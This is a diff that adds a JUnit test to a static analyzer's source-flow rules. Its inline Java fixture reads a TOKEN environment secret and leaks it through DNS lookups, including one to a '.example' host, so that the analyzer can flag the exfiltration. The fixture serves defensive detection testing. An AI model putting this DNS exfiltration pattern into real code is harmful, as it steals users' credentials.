@@ -3,6 +3,7 @@ package dev.clearbox.analyzers.source;
 import dev.clearbox.core.Capability;
 import dev.clearbox.analyzers.capability.CapabilityEntry;
 import dev.clearbox.analyzers.capability.CapabilityModel;
+import dev.clearbox.analyzers.capability.LibraryEffect;
 import dev.clearbox.analyzers.capability.Role;
 import dev.clearbox.analyzers.capability.Sends;
 import dev.clearbox.core.Finding;
@@ -12,6 +13,7 @@ import org.junit.jupiter.api.io.TempDir;
 
 import java.nio.file.Path;
 import java.util.List;
+import java.util.Map;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
@@ -99,6 +101,36 @@ class ModelFlowTest {
         assertTrue(post.path().get(post.path().size() - 1).note().endsWith(", sends argument 2"), post.path().toString());
         Finding send = flows.stream().filter(f -> f.location().line() == 9).findFirst().orElseThrow();
         assertTrue(send.path().get(send.path().size() - 1).note().endsWith(", sends its receiver"), send.path().toString());
+    }
+
+    @Test
+    @Tag("positive:CBX-SRC-EXFIL")
+    @Tag("negative:CBX-SRC-EXFIL")
+    void aUserModelsEffectsDecideLibraryCallsAndTheDefaultIsNamedInThePath() {
+        CapabilityModel user = new CapabilityModel("u3", "test", List.of(), List.of()).withEffects(List.of(
+                new LibraryEffect("com.vendor.sdk.Codec", "checksum", false, LibraryEffect.Call.ANY, LibraryEffect.Parts.NONE,
+                        null, Map.of(), false, List.of())));
+        SourceAnalysisResult result = SourceFixture.in(root)
+                .model(CapabilityModel.builtIn().withOverrides(user))
+                .file("src/com/acme/App.java", """
+                        package com.acme;
+                        import com.vendor.sdk.Codec;
+                        import java.net.InetAddress;
+                        class App {
+                            void run(Codec codec) throws Exception {
+                                String secret = System.getenv("TOKEN"); // expect: ENV
+                                String sum = codec.checksum(secret);
+                                InetAddress.getByName(sum + ".example"); // expect: DNS
+                                String packed = codec.pack(secret);
+                                InetAddress.getByName(packed.toLowerCase()); // expect: DNS; EXFIL, from=6, via=9
+                            }
+                        }
+                        """)
+                .verify();
+        Finding flow = result.findings().stream().filter(f -> f.ruleId().equals("CBX-SRC-EXFIL")).findFirst().orElseThrow();
+        List<String> notes = flow.path().stream().map(p -> p.location().line() + ": " + p.note()).toList();
+        assertTrue(notes.contains("9: library call, assumed to pass its data on"), notes.toString());
+        assertTrue(notes.stream().noneMatch(n -> n.startsWith("10: library call")), "toLowerCase is in the model: " + notes);
     }
 
     @Test
